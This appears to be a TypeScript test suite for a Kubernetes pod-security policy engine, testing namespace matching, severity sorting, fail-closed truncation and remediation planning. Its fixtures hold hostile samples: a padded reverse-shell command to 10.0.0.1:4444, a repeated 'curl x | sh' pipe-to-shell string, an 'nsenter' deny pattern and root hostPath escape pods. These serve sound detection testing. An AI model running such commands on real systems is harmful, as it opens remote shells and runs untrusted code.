import { expect } from 'chai';
import { evaluate } from '../../../src/engine/evaluate.ts';
import { planRemediation } from '../../../src/engine/plan.ts';
import { sanitizePod } from '../../../src/engine/sanitize.ts';
import { compiled, podJson, view, type Json } from '../builders.ts';
import { cpuRatio } from '../../support/cpu.ts';

const NOW = new Date('2026-11-25T10:00:00Z');
const hostPathRule = { hostPaths: { denySensitive: true } };
const escapePod = (meta: Json = {}, spec: Json = {}) =>
  podJson({ volumes: [{ name: 'root', hostPath: { path: '/' } }], nodeName: 'n1', ...spec }, meta);

describe('evaluate: match and exclude', () => {
  const run = (spec: Json, pod: Json, nsLabels: Record<string, string> = {}) =>
    evaluate(view(pod), [compiled({ rules: hostPathRule, ...spec })], {
      namespaceLabels: nsLabels,
      now: NOW,
    }).violations.length;

  it('namespaces and excludeNamespaces are globs', () => {
    expect(run({ match: { namespaces: ['team-*'] } }, escapePod({ namespace: 'team-a' }))).to.equal(
      1,
    );
    expect(
      run({ match: { namespaces: ['team-*'] } }, escapePod({ namespace: 'default' })),
    ).to.equal(0);
    expect(
      run({ match: { excludeNamespaces: ['kube-*'] } }, escapePod({ namespace: 'kube-system' })),
    ).to.equal(0);
  });
  it('a pod without a namespace is in default', () => {
    const pod = escapePod();
    delete (pod.metadata as Json).namespace;
    expect(run({ match: { namespaces: ['default'] } }, pod)).to.equal(1);
  });
  it('namespaceSelector sees the namespace labels, and the name label the API server adds', () => {
    const sel = { match: { namespaceSelector: { matchLabels: { env: 'prod' } } } };
    expect(run(sel, escapePod(), { env: 'prod' })).to.equal(1);
    expect(run(sel, escapePod(), { env: 'dev' })).to.equal(0);
    const byName = {
      match: {
        namespaceSelector: {
          matchExpressions: [
            { key: 'kubernetes.io/metadata.name', operator: 'In', values: ['default'] },
          ],
        },
      },
    };
    expect(run(byName, escapePod(), {})).to.equal(1);
  });
  it('podSelector selects on pod labels', () => {
    const sel = { match: { podSelector: { matchLabels: { app: 'x' } } } };
    expect(run(sel, escapePod({ labels: { app: 'x' } }))).to.equal(1);
    expect(run(sel, escapePod({ labels: { app: 'y' } }))).to.equal(0);
  });
  it('exclude.images exempts a pod only if all its images match', () => {
    const ex = { exclude: { images: ['registry.k8s.io/*'] } };
    const one = escapePod({}, { containers: [{ name: 'a', image: 'registry.k8s.io/pause:3.10' }] });
    const mixed = escapePod(
      {},
      {
        containers: [
          { name: 'a', image: 'registry.k8s.io/pause:3.10' },
          { name: 'b', image: 'evil.io/x:1' },
        ],
      },
    );
    expect(run(ex, one)).to.equal(0);
    expect(run(ex, mixed)).to.equal(1);
  });
  it('exclude.serviceAccounts matches namespace/name globs, default SA included', () => {
    expect(
      run(
        { exclude: { serviceAccounts: ['default/node-*'] } },
        escapePod({}, { serviceAccountName: 'node-exporter' }),
      ),
    ).to.equal(0);
    expect(run({ exclude: { serviceAccounts: ['default/node-*'] } }, escapePod())).to.equal(1);
    expect(run({ exclude: { serviceAccounts: ['*/default'] } }, escapePod())).to.equal(0);
  });
  it('exclude.podSelector exempts matching pods; an empty one exempts nothing', () => {
    expect(
      run(
        { exclude: { podSelector: { matchLabels: { trusted: 'yes' } } } },
        escapePod({ labels: { trusted: 'yes' } }),
      ),
    ).to.equal(0);
    expect(
      run({ exclude: { podSelector: {} } }, escapePod({ labels: { trusted: 'yes' } })),
    ).to.equal(1);
  });
});

describe('evaluate: violations', () => {
  it('carries policy, rule, default severity, techniques, container and source path', () => {
    const dep = {
      apiVersion: 'apps/v1',
      kind: 'Deployment',
      metadata: { name: 'd', namespace: 'prod' },
      spec: {
        template: {
          spec: {
            containers: [{ name: 'c', image: 'x:1' }],
            volumes: [{ name: 'v', hostPath: { path: '/etc' } }],
          },
        },
      },
    };
    const [v] = evaluate(view(dep), [compiled({ rules: hostPathRule }, 'host')], {
      namespaceLabels: {},
      now: NOW,
    }).violations;
    expect(v).to.deep.include({
      policy: 'host',
      rule: 'hostPath.sensitive',
      severity: 'critical',
      path: 'spec.template.spec.volumes[0].hostPath.path',
    });
    expect(v?.techniques).to.deep.equal(['T1611']);
  });
  it('applies severity overrides', () => {
    const [v] = evaluate(
      view(escapePod()),
      [compiled({ rules: hostPathRule, severity: { 'hostPath.sensitive': 'low' } })],
      { namespaceLabels: {}, now: NOW },
    ).violations;
    expect(v?.severity).to.equal('low');
  });
  it('sorts worst first, then by policy and rule, stably', () => {
    const a = compiled({ rules: { ...hostPathRule, scheduling: {}, ownership: {} } }, 'a');
    const b = compiled({ rules: { ownership: {} } }, 'b');
    const v = evaluate(view(escapePod()), [b, a], { namespaceLabels: {}, now: NOW }).violations;
    expect(v.map((x) => `${x.severity}/${x.policy}/${x.rule}`)).to.deep.equal([
      'critical/a/hostPath.sensitive',
      'medium/a/ownership.barePod',
      'medium/a/scheduling.nodeName',
      'medium/b/ownership.barePod',
    ]);
  });
  it('fails closed on fields cut to the bounds: input.oversized, and the rest still judged', () => {
    const padded = `${'#'.repeat(140_000)}; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`;
    const s = sanitizePod(
      escapePod({}, { containers: [{ name: 'c', image: 'x:1', args: [padded] }] }),
    );
    expect(s?.truncated).to.deep.equal(['spec.containers[0].args[0]']);
    const ev = evaluate(s!.pod, [compiled({ rules: { ...hostPathRule, indicators: {} } })], {
      namespaceLabels: {},
      now: NOW,
      truncated: s!.truncated,
    });
    expect(ev.violations.map((v) => [v.rule, v.severity, v.path])).to.deep.equal([
      ['hostPath.sensitive', 'critical', 'spec.volumes[0].hostPath.path'],
      ['input.oversized', 'high', 'spec.containers[0].args[0]'],
    ]);
    expect(ev.errors).to.deep.equal([]);
  });
  it('fails closed on lists cut to the bounds: the 1,025th container is not a hiding place', () => {
    const many = Array.from({ length: 1025 }, (_, i) => ({ name: `c${i}`, image: 'x:1' }));
    const s = sanitizePod(podJson({ containers: many }));
    expect(s?.truncated).to.deep.equal(['spec.containers']);
    const ev = evaluate(s!.pod, [compiled({ rules: { ownership: {} } })], {
      namespaceLabels: {},
      now: NOW,
      truncated: s!.truncated,
    });
    expect(ev.violations.map((v) => v.rule)).to.include('input.oversized');
  });
});

describe('plan', () => {
  const pod = view(escapePod({}, { tolerations: [{ operator: 'Exists' }] }));
  const actions = [
    { type: 'Label', labels: { quarantine: 'true' } },
    { type: 'DeletePod', minSeverity: 'high' },
    { type: 'CordonNode', minSeverity: 'critical' },
  ];
  const ev = (spec: Json) => {
    const c = compiled(spec);
    return { c, v: evaluate(pod, [c], { namespaceLabels: {}, now: NOW }).violations };
  };
  it('Audit plans nothing', () => {
    const { c, v } = ev({ mode: 'Audit', rules: hostPathRule, actions });
    expect(v).to.have.length(1);
    expect(planRemediation(c, v, pod).actions).to.deep.equal([]);
  });
  it('Enforce keeps the written order and filters by minSeverity', () => {
    const { c, v } = ev({ mode: 'Enforce', rules: { ...hostPathRule, scheduling: {} }, actions });
    expect(planRemediation(c, v, pod).actions.map((a) => a.action.type)).to.deep.equal([
      'Label',
      'DeletePod',
      'CordonNode',
    ]);
    const medium = ev({ mode: 'Enforce', rules: { scheduling: {} }, actions });
    const plan = planRemediation(medium.c, medium.v, pod).actions;
    expect(plan.map((a) => a.action.type)).to.deep.equal(['Label']);
    expect(plan[0]?.because.map((x) => x.rule)).to.deep.equal([
      'scheduling.controlPlaneToleration',
      'scheduling.nodeName',
    ]);
  });
  it('skips CordonNode for a pod not bound to a node', () => {
    const unbound = view(podJson({ volumes: [{ name: 'root', hostPath: { path: '/' } }] }));
    const c = compiled({ mode: 'Enforce', rules: hostPathRule, actions });
    const v = evaluate(unbound, [c], { namespaceLabels: {}, now: NOW }).violations;
    expect(planRemediation(c, v, unbound).actions.map((a) => a.action.type)).to.deep.equal([
      'Label',
      'DeletePod',
    ]);
  });
  it('an oversized field meets every minSeverity: padding never hides a pod from an action', () => {
    const c = compiled({ mode: 'Enforce', rules: hostPathRule, actions });
    const v = evaluate(view(podJson()), [c], {
      namespaceLabels: {},
      now: NOW,
      truncated: ['spec.containers[0].env[0].value'],
    }).violations;
    expect(v.map((x) => [x.rule, x.severity])).to.deep.equal([['input.oversized', 'high']]);
    expect(planRemediation(c, v, pod).actions.map((a) => a.action.type)).to.deep.equal([
      'Label',
      'DeletePod',
      'CordonNode',
    ]);
  });
  it('plans nothing without violations', () => {
    const c = compiled({ mode: 'Enforce', rules: hostPathRule, actions });
    expect(planRemediation(c, [], pod).actions).to.deep.equal([]);
  });
});

describe('evaluate: work that does not depend on the policy is done once per pod', () => {
  it('200 policies with the same indicators and patterns cost far less than 200 times one', () => {
    const spec = {
      rules: { indicators: { enabled: true }, commands: { deniedPatterns: ['nsenter\\s+-t'] } },
    };
    const one = [compiled(spec, 'p0')];
    const many = Array.from({ length: 200 }, (_, i) => compiled(spec, `p${i}`));
    const text = 'curl x | sh; '.repeat(8000);
    const pod = view(podJson({ containers: [{ name: 'c', image: 'i', args: [text] }] }));
    const ctx = { namespaceLabels: {}, now: new Date(0) };
    const all = evaluate(pod, many, ctx);
    expect(new Set(all.violations.map((v) => v.policy)).size).to.equal(200);
    const r = cpuRatio(
      () => evaluate(pod, one, ctx),
      () => evaluate(pod, many, ctx),
    );
    expect(r.ratio, `${r.smallMs.toFixed(2)} ms -> ${r.largeMs.toFixed(2)} ms`).to.be.below(20);
  });
});
